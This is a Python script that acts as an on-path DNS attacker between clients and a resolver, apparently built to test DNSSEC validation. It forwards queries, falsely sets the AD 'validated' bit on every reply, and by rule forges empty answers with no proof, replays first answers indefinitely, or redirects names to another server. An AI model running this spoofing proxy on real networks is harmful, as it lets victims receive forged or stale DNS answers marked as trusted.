#!/usr/bin/env python3
"""An attacker on the way to a resolver: onpath.py ADDRESS PORT RESOLVER RESOLVER_PORT RULE...

Questions are passed on to the resolver, and its answers back, with the claim that they were validated (AD). Of a RULE,
NAME/TYPE/WHAT, the last that fits counts; NAME stands for all below it, too, and TYPE may be `any`. WHAT is `pass`; `empty`:
there is nothing, without proof; `replay`: for ever what was answered the first time; or the address of another server.
"""
import socket
import sys

address, port, resolver, resolver_port = sys.argv[1:5]
rules = [rule.split("/") for rule in sys.argv[5:]]
TYPES = {1: "a", 2: "ns", 6: "soa", 16: "txt", 28: "aaaa", 43: "ds", 48: "dnskey"}
seen = {}


def question(message):
    """Name, type, and where the question ends."""
    labels, at = [], 12
    while message[at]:
        labels.append(message[at + 1 : at + 1 + message[at]].decode().lower())
        at += 1 + message[at]
    return ".".join(labels), TYPES.get(int.from_bytes(message[at + 1 : at + 3], "big")), at + 5


def what(name, kind):
    fitting = "pass"
    for rule_name, rule_kind, rule in rules:
        if rule_kind in ("any", kind) and (name == rule_name or name.endswith("." + rule_name)):
            fitting = rule
    return fitting


def ask(server, server_port, message):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.settimeout(5)
        way.connect((server, server_port))
        way.send(message)
        return way.recv(65535)


def answer(message):
    name, kind, end = question(message)
    rule = what(name, kind)
    if rule == "empty":
        return message[:2] + bytes([0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0]) + message[12:end]
    if rule not in ("pass", "replay"):
        return ask(rule, 53, message)
    if rule == "replay" and (name, kind) in seen:
        return message[:2] + seen[name, kind][2:]
    found = ask(resolver, int(resolver_port), message)
    if found[3] & 15 in (0, 3):
        seen[name, kind] = found
    return found


server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind((address, int(port)))
while True:
    message, asker = server.recvfrom(65535)
    try:
        found = answer(message)
    except OSError:
        continue
    server.sendto(found[:3] + bytes([found[3] | 0x20]) + found[4:], asker)
